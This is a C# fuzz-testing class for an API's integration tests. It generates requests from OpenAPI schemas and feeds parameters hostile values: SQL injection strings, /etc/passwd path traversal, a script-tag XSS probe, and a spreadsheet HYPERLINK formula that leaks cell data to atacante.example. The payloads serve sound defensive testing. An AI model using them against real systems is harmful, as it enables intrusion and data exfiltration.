using System.Globalization;
using System.Text;
using System.Text.Json.Nodes;
using CsCheck;

namespace CompromisosApi.IntegrationTests;

public sealed partial class FuzzContratoTests
{
    /// <summary>Builds one request for an operation from its parameters' and body's schemas.</summary>
    private sealed class Generador(JsonNode doc, Random azar, Dictionary<string, string> ids)
    {
        public (HttpRequestMessage Pedido, bool Invalido, string Descripcion) Pedido(string ruta, string metodo, JsonNode op)
        {
            var partes = new List<string>();
            var camino = ruta;
            var consulta = new List<string>();
            var encabezados = new List<(string, string)>();
            foreach (var parametro in op["parameters"]?.AsArray() ?? [])
            {
                // Header parameters are shared ones: #/components/parameters/….
                var p = parametro!["$ref"] is JsonValue r ? doc["components"]!["parameters"]![((string)r!).Split('/')[^1]]! : parametro;
                var nombre = (string)p["name"]!;
                var en = (string)p["in"]!;
                var esquema = Esquemas.Resolver(doc, p["schema"]!);
                if (en == "path")
                {
                    var recurso = ruta.Split('/')[3];
                    var valor = nombre == "id" && azar.Next(4) > 0 && ids.TryGetValue(recurso, out var existente)
                        ? existente
                        : Parametro(esquema);
                    // A NUL in the path is refused before the application (Kestrel and the test server alike).
                    while (valor.Contains("%00", StringComparison.Ordinal)) valor = Parametro(esquema);
                    camino = camino.Replace("{" + nombre + "}", valor);
                }
                else if (en == "query" && azar.Next(3) == 0)
                {
                    consulta.Add($"{nombre}={Parametro(esquema)}");
                }
                else if (en == "header" && azar.Next(3) == 0)
                {
                    // A header can't carry control characters on the wire (and HttpClient refuses them).
                    var valor = Uri.UnescapeDataString(Parametro(esquema));
                    if (!valor.Any(char.IsControl)) encabezados.Add((nombre, valor));
                }
            }

            if (consulta.Count > 0) camino += "?" + string.Join("&", consulta);
            var pedido = new HttpRequestMessage(new HttpMethod(metodo.ToUpperInvariant()), camino);
            foreach (var (nombre, valor) in encabezados)
            {
                pedido.Headers.TryAddWithoutValidation(nombre, valor);
                partes.Add($"{nombre}: {(valor.Length > 60 ? valor[..60] + "…" : valor)}");
            }

            var invalido = false;
            var esquemaCuerpo = op["requestBody"]?["content"]?["application/json"]?["schema"];
            if (esquemaCuerpo is not null)
            {
                var cuerpo = Valor(Esquemas.Resolver(doc, esquemaCuerpo), 0, completo: true);
                var texto = cuerpo?.ToJsonString() ?? "{}";
                switch (azar.Next(10))
                {
                    case 0:
                        texto = new[] { "", "{", "nul", "[]", "{\"a\":}", "\"texto\"" }[azar.Next(6)];
                        invalido = true;
                        partes.Add("json roto");
                        break;
                    case 1 when cuerpo is JsonObject o:
                        o["campoDesconocido"] = 1;
                        texto = o.ToJsonString();
                        invalido = true;
                        partes.Add("campo desconocido");
                        break;
                    case 2 when cuerpo is JsonObject o && o.Count > 0:
                        var clave = o.ElementAt(azar.Next(o.Count)).Key;
                        o[clave] = new JsonArray(true, 3);
                        texto = o.ToJsonString();
                        invalido = true;
                        partes.Add($"tipo equivocado en {clave}");
                        break;
                }

                pedido.Content = new StringContent(texto, Encoding.UTF8, "application/json");
                partes.Add(texto.Length > 120 ? texto[..120] + "…" : texto);
            }

            partes.Insert(0, camino.Length > 300 ? camino[..300] + "…" : camino);
            return (pedido, invalido, string.Join(" ", partes));
        }

        /// <summary>The bounds, zero, -1, the int64 extremes and one past each documented bound, or an ordinary value.</summary>
        private long Entero(JsonNode esquema)
        {
            var min = (long?)esquema["minimum"] ?? int.MinValue;
            var max = (long?)esquema["maximum"] ?? int.MaxValue;
            return azar.Next(9) switch
            {
                0 => min,
                1 => max,
                2 => 0,
                3 => -1,
                4 => azar.Next(1, 50),
                5 => max == long.MaxValue ? long.MaxValue : max + 1,
                6 => min == long.MinValue ? long.MinValue : min - 1,
                7 => azar.Next(2) == 0 ? long.MinValue : long.MaxValue,
                _ => (long?)esquema["example"] ?? azar.NextInt64(Math.Max(min, -1000), Math.Min(max, 5000)),
            };
        }

        /// <summary>
        /// A path, query or header value, percent-encoded: one generated from its schema, or (one time in four) a
        /// hostile one. Hostile texts go to every parameter, whatever its type; some are sent already encoded, as bytes
        /// that are not UTF-8 (a lone surrogate as CESU-8, an overlong NUL, 0xFF) or are numbers no integer holds.
        /// </summary>
        private string Parametro(JsonNode esquema)
        {
            if (azar.Next(4) == 0)
            {
                return azar.Next(3) == 0
                    ? Crudos[azar.Next(Crudos.Length)]
                    : Uri.EscapeDataString(Hostil());
            }

            var valor = Valor(esquema, 0);
            var texto = valor switch
            {
                null => "",
                JsonValue v when v.TryGetValue<string>(out var s) => s,
                _ => valor.ToJsonString(),
            };
            return Uri.EscapeDataString(texto);
        }

        private static readonly string[] Crudos =
        [
            "%ED%A0%80", "%ED%B0%80x", "a%ED%A0%80%ED%A0%80", "%C0%80", "%00", "%FF%FE", "%F4%90%80%80", "%E2%82", "%",
            "%25", "%2F..%2F..%2Fetc%2Fpasswd", "99999999999999999999", "-99999999999999999999", "9223372036854775808",
            "-9223372036854775809", "1e400", "0x7fffffff", "%EF%BC%91%EF%BC%92", "%2B5", "%207", "NaN", "-0", "1.5",
        ];

        private string Hostil() => azar.Next(14) switch
        {
            0 => new string('x', azar.Next(2_000, 20_000)),
            1 => string.Concat(Enumerable.Repeat("ñ😀", azar.Next(500, 5_000))),
            2 => "\0",
            3 => "a\u0000b",
            4 => "' OR 1=1 --",
            5 => "1; DROP TABLE compromisos; --",
            6 => "%' UNION SELECT sha256 FROM archivos_evidencia --",
            7 => "=HYPERLINK(\"http://atacante.example/?\"&A1,\"Ver\")",
            8 => new[] { "+1", "-1", "@SUM(1)", "\t=1", "\r=1" }[azar.Next(5)],
            9 => "\u202Eevil\uFEFF\u200B",
            10 => "\"unterminated or -- :* !! & | <-> (",
            11 => "<script>alert(1)</script>",
            12 => "../../../../etc/passwd",
            _ => FechaHora(),
        };

        /// <summary>
        /// An RFC 3339 date-time at any offset from -12:00 to +14:00 (whole, half and quarter hours, Z and -00:00),
        /// with 0 to 9 fractional digits, sometimes at the very ends of what can be written.
        /// </summary>
        private string FechaHora()
        {
            if (azar.Next(10) == 0)
                return new[] { "0001-01-01T00:00:00+14:00", "9999-12-31T23:59:59.9999999-12:00", "0000-01-01T00:00:00Z", "2026-02-30T00:00:00Z", "2026-01-01T24:00:00Z" }[azar.Next(5)];

            var instante = DateTimeOffset.UnixEpoch.AddSeconds(azar.NextInt64(0, 2_200_000_000)).AddTicks(azar.Next(10_000_000));
            var desfase = TimeSpan.FromMinutes(azar.Next(-12 * 4, 14 * 4 + 1) * 15);
            var local = instante.ToOffset(desfase);
            var digitos = azar.Next(10);
            var fraccion = digitos == 0 ? "" : "." + (local.Ticks % 10_000_000).ToString("D7", CultureInfo.InvariantCulture).PadRight(9, '0')[..digitos];
            var zona = desfase == TimeSpan.Zero ? new[] { "Z", "+00:00", "-00:00", "z" }[azar.Next(4)] : local.ToString("zzz", CultureInfo.InvariantCulture);
            return local.ToString("yyyy-MM-dd'T'HH:mm:ss", CultureInfo.InvariantCulture) + fraccion + zona;
        }

        private JsonNode? Valor(JsonNode esquema, int profundidad, bool completo = false)
        {
            esquema = Esquemas.Resolver(doc, esquema);
            if ((bool?)esquema["nullable"] == true && azar.Next(8) == 0) return null;
            if (esquema["enum"] is JsonArray valores && azar.Next(10) > 0) return valores[azar.Next(valores.Count)]!.DeepClone();
            var ejemplo = esquema["example"];
            switch ((string?)esquema["type"])
            {
                case "object":
                    var o = new JsonObject();
                    var requeridos = esquema["required"]?.AsArray().Select(x => (string)x!).ToHashSet() ?? [];
                    foreach (var (nombre, prop) in esquema["properties"]?.AsObject() ?? [])
                    {
                        if (requeridos.Contains(nombre) || (completo ? azar.Next(3) > 0 : azar.Next(2) == 0))
                        {
                            o[nombre] = profundidad > 4 ? null : Valor(prop!, profundidad + 1, completo);
                        }
                    }

                    return o;
                case "array":
                    var a = new JsonArray();
                    for (var i = azar.Next(profundidad > 2 ? 1 : 3); i > 0; i--) a.Add(Valor(esquema["items"]!, profundidad + 1, completo));
                    return a;
                case "integer":
                    return azar.Next(3) == 0 && ejemplo is not null ? ejemplo.DeepClone() : JsonValue.Create(Entero(esquema));
                case "number":
                    return JsonValue.Create(azar.NextDouble() * 100);
                case "boolean":
                    return JsonValue.Create(azar.Next(2) == 0);
                default:
                    return azar.Next(3) == 0 && ejemplo is not null ? ejemplo.DeepClone() : JsonValue.Create(Texto((string?)esquema["format"]));
            }
        }

        private string Texto(string? formato) => (formato, azar.Next(8)) switch
        {
            ("date", < 5) => new DateOnly(1995, 1, 1).AddDays(azar.Next(12_000)).ToString("yyyy-MM-dd", CultureInfo.InvariantCulture),
            ("date-time", < 5) => FechaHora(),
            (_, 0) => "",
            (_, 1) => "   ",
            (_, 2) => "2009-13",
            (_, 3) => azar.Next(2) == 0 ? "ñandú “comillas” \u0000 <script>alert(1)</script> ' OR 1=1 --" : Hostil(),
            (_, 4) => new string('x', azar.Next(1, 600)),
            (_, 5) => "9999-12-31",
            _ => Guid.NewGuid().ToString(),
        };
    }
}
